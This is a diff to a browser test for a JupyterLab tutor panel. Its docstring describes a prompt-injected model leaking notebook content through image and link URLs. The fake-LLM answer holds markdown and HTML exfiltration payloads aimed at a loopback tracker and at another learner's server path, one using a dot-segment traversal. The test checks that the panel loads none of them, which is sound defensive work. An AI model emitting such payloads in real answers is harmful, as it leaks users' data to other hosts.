@@ -3,7 +3,9 @@
 A prompt-injected model can write a markdown image or raw HTML whose URL carries the
 learner's notebook content to another host. The fake LLM answers with every such vector
 we know of, pointing at a real tracker HTTP server on another loopback origin (127.0.0.2)
-that counts what reaches it; the panel must show the answer with none of it loaded.
+that counts what reaches it, and at another learner's server on the same origin (the lab
+runs under a JupyterHub-style /user/learner/ base URL); the panel must show the answer with
+none of it loaded, the URLs visible as text.
 """
 
 from __future__ import annotations
@@ -23,9 +25,22 @@ from test_tutor_panel import CHAT, ask, expect, open_notebook, tutor_messages
 pytestmark = [pytest.mark.browser, pytest.mark.timeout(300)]
 
 
+class HubLikeLab(LabServer):
+    """conftest's `jupyter lab` under a JupyterHub-style base URL: other learners' servers
+    share its origin under /user/<name>/, so same-origin is not the same as this server."""
+
+    PREFIX = "user/learner"
+
+    def api(self, method, endpoint, body=None, **query):
+        return super().api(method, f"{self.PREFIX}/{endpoint}", body, **query)
+
+    def lab_url(self, path=None):
+        return super().lab_url(path).replace(self.url, f"{self.url}/{self.PREFIX}", 1)
+
+
 @pytest.fixture(scope="module")
 def lab(tmp_path_factory, fake_llm):
-    """conftest's `jupyter lab`, serving this checkout's front end (what `jlpm build` writes to
+    """A hub-like `jupyter lab` serving this checkout's front end (what `jlpm build` writes to
     ltt_ext/labextension) ahead of the copy an earlier install left in share/jupyter: the test
     must run the renderer it tests. A config file, because a list does not survive the command line."""
     if not os.path.exists(CHROMIUM):
@@ -36,7 +51,8 @@ def lab(tmp_path_factory, fake_llm):
     config = here / "this_build.py"
     paths = [str(here / "labextensions"), *jupyter_path("labextensions")]
     config.write_text(f"c.LabApp.labextensions_path = {json.dumps(paths)}\n")
-    server = LabServer(tmp_path_factory.mktemp("lab"), fake_llm.llm.base_url, [f"--config={config}"])
+    server = HubLikeLab(tmp_path_factory.mktemp("lab"), fake_llm.llm.base_url,
+                        [f"--config={config}", f"--ServerApp.base_url=/{HubLikeLab.PREFIX}/"])
     yield server
     server.stop()
 
@@ -115,7 +131,10 @@ def hostile_answer(t: str) -> str:
 
 Read [the docs]({t}/page?leak=link) and {t}/bare?leak=autolink too.
 
-A local image is fine: ![sentinel](/static/favicons/favicon.ico)
+Same origin, another learner's server: ![other server](/user/attacker/files/pixel.png?leak=other-server)
+<img src="/user/learner/../attacker/files/dots.png?leak=dot-segments" alt="dots">
+
+This server's own image is fine: ![sentinel](/{HubLikeLab.PREFIX}/static/favicons/favicon.ico)
 
 LEAK-TEST-END
 """
@@ -127,30 +146,31 @@ def test_tutor_answers_load_nothing_from_other_origins(lab, fake_llm, open_brows
     ctx = open_browser()
     page = open_notebook(ctx, lab, path)
     seen: list[str] = []  # what the page asked for, as Chromium issues it (before any network)
-    page.on("request", lambda request: seen.append(request.url) if "127.0.0.2" in request.url else None)
+    page.on("request", lambda r: seen.append(r.url) if "127.0.0.2" in r.url or "/attacker/" in r.url else None)
 
     ask(page, "Show me a picture of my data")
     answer = tutor_messages(page).filter(has_text="LEAK-TEST-END")
     expect(answer).to_have_count(1, timeout=60_000)
     expect(page.locator(f"{CHAT} .ltt-Badge-streaming")).to_have_count(0, timeout=60_000)
-    # The same-origin image of the same answer has loaded: the browser has processed the
-    # rendered HTML, so any remote fetch in it would have been issued by now.
+    # This server's image in the same answer has loaded: the browser has processed the
+    # rendered HTML, so any other fetch in it would have been issued by now.
     sentinel = answer.locator("img[alt='sentinel']")
     expect(sentinel).to_have_count(1)
     page.wait_for_function("img => img.complete && img.naturalWidth > 0", arg=sentinel.element_handle())
 
-    assert seen == [], f"the page requested other-origin URLs: {seen}"
+    assert seen == [], f"the page requested URLs outside this server: {seen}"
     assert tracker.requests == [], f"requests reached the tracker: {tracker.requests}"
-    # Nothing in the rendered answer still points at the other origin ...
-    remote = answer.evaluate("""(el, origin) => Array.from(el.querySelectorAll('*')).filter(n =>
-        Array.from(n.attributes).some(a => a.value.includes(origin.split('//')[1]))).map(n => n.outerHTML)""",
-                             tracker.origin)
+    # Nothing in the rendered answer still points outside this server ...
+    remote = answer.evaluate("""(el, needles) => Array.from(el.querySelectorAll('*')).filter(n =>
+        Array.from(n.attributes).some(a => needles.some(s => a.value.includes(s)))).map(n => n.outerHTML)""",
+                             [tracker.origin.split("//")[1], "/attacker/"])
     assert remote == []
     expect(answer.locator("iframe, object, embed, link, style, svg")).to_have_count(0)
     # ... and the learner still sees what was there, as text.
     text = answer.inner_text()
     assert "a chart" in text and f"{tracker.origin}/md.png?leak=notebook-content" in text
     assert "the docs" in text and f"{tracker.origin}/page?leak=link" in text
+    assert "other server" in text and "/user/attacker/files/pixel.png?leak=other-server" in text
     assert "styled" in text and "cell" in text
 
     # The same answer rendered from history (a fresh page) is held to the same rule.
